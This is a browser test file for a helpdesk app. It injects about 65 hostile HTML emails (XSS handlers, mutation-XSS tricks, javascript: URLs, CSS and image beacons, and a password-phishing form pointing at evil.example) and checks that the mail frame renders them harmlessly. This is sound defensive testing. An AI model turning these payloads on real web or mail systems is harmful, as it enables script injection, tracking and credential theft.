"""Sixty hostile mails shown as they were written: nothing runs and nothing is fetched."""

from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP
from io import BytesIO

import pytest
from axe_playwright_python.sync_playwright import Axe
from PIL import Image
from playwright.sync_api import Browser, Frame

from models.base import db
from models.contact import Contact
from models.intake import Adapter
from models.mailbox import Mailbox
from tests.browser.conftest import Lived, Site, Visit, served
from tests.conftest import Servers
from tests.people import House, amelie
from triage.intake import receive_mail

pytestmark = pytest.mark.browser

E = "//evil.example/"
VECTORS = (
    "<script>alert(1)</script>",
    f"<script src={E}2.js></script>",
    "<img src=x onerror=alert(3)>",
    f"<img src={E}4.png>",
    f"<img srcset='{E}5.png 1x, {E}5b.png 2x'>",
    f"<picture><source srcset={E}6.png><img src={E}6b.png></picture>",
    f"<input type=image src={E}7.png onfocus=alert(7) autofocus>",
    "<svg onload=alert(8)><circle r=1></svg>",
    "<svg><script>alert(9)</script></svg>",
    "<svg><script xlink:href=data:,alert(10)></script></svg>",
    f"<svg><image href={E}11.png xlink:href={E}11.png></svg>",
    f"<svg><use href='{E}12.svg#x'></use></svg>",
    "<svg><animate onbegin=alert(13) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(14) /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(15)</script>'></foreignObject></svg>",
    f"<svg><style>@import url({E}16.css)</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(17)></style></mglyph></table>",
    "<math href=javascript:alert(18)>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(19)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(20)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(21)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(22)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(23)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(24)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(25)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(26)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(27)>'></xmp>",
    "<template><script>alert(28)</script><img src=x onerror=alert(28)></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(29)></template></div>",
    "<table><td><a title='</a><script>alert(30)</script>'>x</a></table>",
    f"<style>body{{background:url({E}31.png)}}</style>",
    f"<style>@import '{E}32.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({E}33.woff)}}*{{font-family:x}}</style>",
    f"<p style='background:url({E}34.png)'>x</p>",
    f"<p style='background-image:url(&quot;{E}35.png&quot;)'>x</p>",
    f"<p style='background:u\\72l({E}36.png)'>x</p>",
    f"<ul style='list-style:url({E}37.png)'><li>x</ul>",
    f"<p style='border-image:url({E}38.png) 3;cursor:url({E}38.cur),auto'>x</p>",
    f"<p style='content:image-set(\"{E}39.png\" 1x);mask:url({E}39.svg#m)'>x</p>",
    f"<p style='filter:url({E}40.svg#f);--x:url({E}40.png);background:var(--x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99;width:expression(alert(41))'>x</p>",
    f"<link rel=stylesheet href={E}42.css>",
    f"<link rel=prefetch href={E}43><link rel=dns-prefetch href={E}43><link rel=icon>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(44)'>",
    f"<meta http-equiv=refresh content='0;url=https:{E}45'>",
    f"<base href=https:{E}46/><a href=x>x</a><img src=46.png>",
    f"<form action=https:{E}47><input name=password><button autofocus>Sign in</button></form>",
    f"<button formaction=https:{E}48 onclick=alert(48)><isindex action={E}>",
    "<iframe src=javascript:alert(49)></iframe><frameset onload=alert(49)><frame src=x>",
    f"<iframe srcdoc='<script>alert(50)</script>'></iframe><iframe src=https:{E}50></iframe>",
    f"<object data=https:{E}51.swf><param name=movie value={E}51></object>",
    f"<object data='data:text/html,<script>alert(52)</script>'></object><applet code={E}52>",
    f"<embed src=https:{E}53.swf><embed src=javascript:alert(53)>",
    f"<video src={E}54.mp4 poster={E}54.png autoplay onerror=alert(54)><source src={E}54b>",
    f"<audio src={E}55.mp3 autoplay onerror=alert(55)></audio><track src={E}55.vtt default>",
    "<a href='javascript:alert(56)' autofocus onfocus=alert(56)>x</a>",
    "<a href=' \x01java\tscript:alert(57)'>x</a><a href='JaVaScRiPt&colon;alert(57)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4='>x</a>",
    f"<body background={E}59.png onload=alert(59)><table background={E}59><td background={E}59>",
    f"<a href=x ping={E}60 download>x</a><details open ontoggle=alert(60)><marquee>",
    "<!--[if mso]><script>alert(61)</script><![endif]--><!--><img src=x onerror=alert(61)>-->",
    "<img src='data:image/svg+xml,<svg onload=alert(62)>'><img src=blob:x><img src=file:/x>",
    "<div hx-get='/logout' hx-trigger='load' data-hx-on:load='alert(63)'>x</div>",
    "<dialog open onclose=alert(64)><form method=dialog><button autofocus>x</dialog>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["https:{E}65"]}}]}}</script>',
)

ALIEN = """[...document.querySelectorAll("*")].filter((one) =>
  [...one.attributes].some((had) => /^(on|hx-|data-|ping|srcset|srcdoc|background|formaction)/i
      .test(had.name) || /^\\s*(javascript|data|blob|file):/i.test(had.value))
  || one.matches("script, iframe, frame, object, embed, applet, base, meta[http-equiv], link, form,"
    + "input, button, svg, math, video, audio, template, body style, dialog, marquee, details")
).map((one) => one.outerHTML.slice(0, 100))"""
"""What no mail may bring into its frame."""


@dataclass
class Attacked:
    """The house after such mails, one for each vector."""

    site: Site
    contacts: list[tuple[int, int]]
    """Numbers of tickets with the ids of their contacts."""

    def open(self, position: int, **options: bool) -> Visit:
        """The frame alone."""
        number, contact = self.contacts[position]
        path = f"/desk/tickets/{number}/contacts/{contact}/mail"
        return self.site.visit(path, "koen", **options)


def hostile(html: str, position: int) -> bytes:
    mail = EmailMessage(policy=SMTP)
    mail["From"] = f"v{position}@evil.example"
    mail["To"] = "contact@fund.example"
    mail["Subject"] = f"Hostile {position}"
    mail.set_content(f"<p>Before it.</p>{html}\n<p>Rien reçu.", subtype="html")
    return mail.as_bytes()


@pytest.fixture(scope="module")
def house(chromium: Browser, lived_in: Lived, servers: Servers) -> Iterator[Attacked]:
    with served(chromium, lived_in, servers) as site:
        with site.app.app_context():
            contacts = attack(House(site.app))
            db.session.remove()
        yield Attacked(site, contacts)


@pytest.fixture
def attacked(house: Attacked) -> Iterator[Attacked]:
    yield house
    house.site.leave()


def attack(house: House) -> list[tuple[int, int]]:
    intakes = [
        receive_mail(
            hostile(vector, position),
            adapter=Adapter.SMTP,
            mailbox=Mailbox.first(),
            mail_from=f"v{position}@evil.example",
        )
        for position, vector in enumerate(VECTORS)
    ]
    house.work()
    found = [Contact.from_intake(intake) for intake in intakes]
    return [(house.ticket(one).number, one.id) for one in found if one is not None]


def frame_of(visit: Visit) -> Frame:
    """The frame with the mail on a ticket's page, opened."""
    visit.page.locator(".as-written > summary").first.click()
    visit.page.locator("iframe.mail").first.scroll_into_view_if_needed()
    frame = visit.page.locator("iframe.mail").first.element_handle().content_frame()
    assert frame is not None
    frame.wait_for_selector("body > p")
    return frame


def test_the_trap_springs(attacked: Attacked) -> None:
    visit = attacked.open(0, bypass_csp=True)
    visit.page.set_content(f"<img src=x onerror=alert(0)><img src={E}0.png>")
    visit.page.wait_for_timeout(300)
    assert any("dialog: 0" in fault for fault in visit.faults)
    assert any("request: " in fault for fault in visit.faults)
    visit.page.set_content("<svg><a xlink:href='javascript:x'></a></svg>")
    assert visit.page.evaluate(ALIEN)


@pytest.mark.parametrize("position", range(len(VECTORS)))
def test_a_hostile_mail_is_harmless_even_without_our_policy(
    attacked: Attacked, position: int
) -> None:
    visit = attacked.open(position, bypass_csp=True)
    assert visit.status == 200
    assert "Before it." in visit.page.content()
    assert visit.page.evaluate(ALIEN) == []
    assert visit.faults == []


def test_all_of_them_in_a_frame_draw_no_complaint_from_our_policy(attacked: Attacked) -> None:
    visit = attacked.site.visit(f"/desk/tickets/{attacked.contacts[0][0]}", "koen")
    frame_of(visit)
    for number, contact in attacked.contacts:
        path = f"/desk/tickets/{number}/contacts/{contact}/mail"
        with visit.page.expect_response(lambda answer, path=path: answer.url.endswith(path)):
            visit.page.evaluate("(path) => document.querySelector('iframe.mail').src = path", path)
        visit.page.frame_locator("iframe.mail").get_by_text("Before it.").wait_for()
        assert visit.faults == [], path


def test_a_mail_is_fetched_only_when_somebody_opens_it(attacked: Attacked) -> None:
    asked: list[str] = []
    visit = attacked.site.visit("/desk/", "koen")
    visit.page.on("request", lambda request: asked.append(request.url))
    visit = attacked.site.visit(f"/desk/tickets/{attacked.contacts[1][0]}", "koen")
    visit.page.wait_for_load_state("networkidle")
    assert not [url for url in asked if url.endswith("/mail")]
    frame_of(visit)
    assert [url for url in asked if url.endswith("/mail")]


def test_a_mail_shows_its_own_pictures_and_where_its_links_lead(
    attacked: Attacked, house: Attacked
) -> None:
    with house.site.app.app_context():
        ticket = House(house.site.app).ticket(received(house, illustrated()))
        number = ticket.number
        db.session.remove()
    visit = attacked.site.visit(f"/desk/tickets/{number}", "koen")
    with visit.page.expect_response("**/desk/pictures/**") as answer:
        frame = frame_of(visit)
    assert answer.value.ok
    visit.page.wait_for_load_state("networkidle")
    assert frame.evaluate("document.querySelector('img[src]').naturalWidth") == 40
    assert "evil.example" in frame.locator("small.host").inner_text()
    assert "1 " in frame.locator(".notice").inner_text()
    assert visit.faults == []


def test_files_are_walked_by_the_arrows_above_the_ticket(
    attacked: Attacked, house: Attacked
) -> None:
    with house.site.app.app_context():
        number = House(house.site.app).ticket(received(house, with_files())).number
        db.session.remove()
    visit = attacked.site.visit(f"/desk/tickets/{number}", "koen", language="en")
    opener = visit.page.locator(".files .file > a:first-child").first
    opener.click()
    dialog, title = visit.page.locator("dialog#lightbox"), visit.page.locator("#look-title")
    dialog.wait_for()
    for name, key in (("photo.png", "ArrowRight"), ("notes.txt", "ArrowLeft"), ("photo.png", "")):
        title.get_by_text(name).wait_for()
        if key:
            visit.page.keyboard.press(key)
    picture = dialog.locator("img")
    picture.wait_for()
    visit.page.wait_for_load_state("networkidle")
    assert picture.evaluate("(one) => one.naturalWidth") == 40
    results = Axe().run(visit.page)
    assert [found["id"] for found in results.response["violations"]] == []
    visit.page.keyboard.press("Escape")
    dialog.wait_for(state="hidden")
    assert opener.evaluate("(one) => one === document.activeElement")
    assert visit.faults == []


def with_files() -> bytes:
    mail = EmailMessage(policy=SMTP)
    mail["From"] = amelie.email
    mail["To"] = "contact@fund.example"
    mail["Subject"] = "Files"
    mail.set_content("Voici deux fichiers.")
    mail.add_attachment(png(), "image", "png", filename="photo.png")
    mail.add_attachment("Bonjour", filename="notes.txt")
    return mail.as_bytes()


def png() -> bytes:
    drawn = BytesIO()
    Image.new("RGB", (40, 30), "teal").save(drawn, "PNG")
    return drawn.getvalue()


def received(house: Attacked, raw: bytes) -> Contact:
    return House(house.site.app).receive(raw, amelie.email)


def illustrated() -> bytes:
    """A mail with a picture of its own, one of somebody else's, and a link that deceives."""
    mail = EmailMessage(policy=SMTP)
    mail["From"] = amelie.email
    mail["To"] = "contact@fund.example"
    mail["Subject"] = "Photo"
    mail.set_content(
        '<p>Voici la photo.</p><img src="cid:photo@x"><img src="https://evil.example/pixel.gif">'
        '<p><a href="https://evil.example/login">https://fund.example/</a></p>',
        subtype="html",
    )
    mail.add_related(png(), "image", "png", cid="<photo@x>", filename="photo.png")
    return mail.as_bytes()
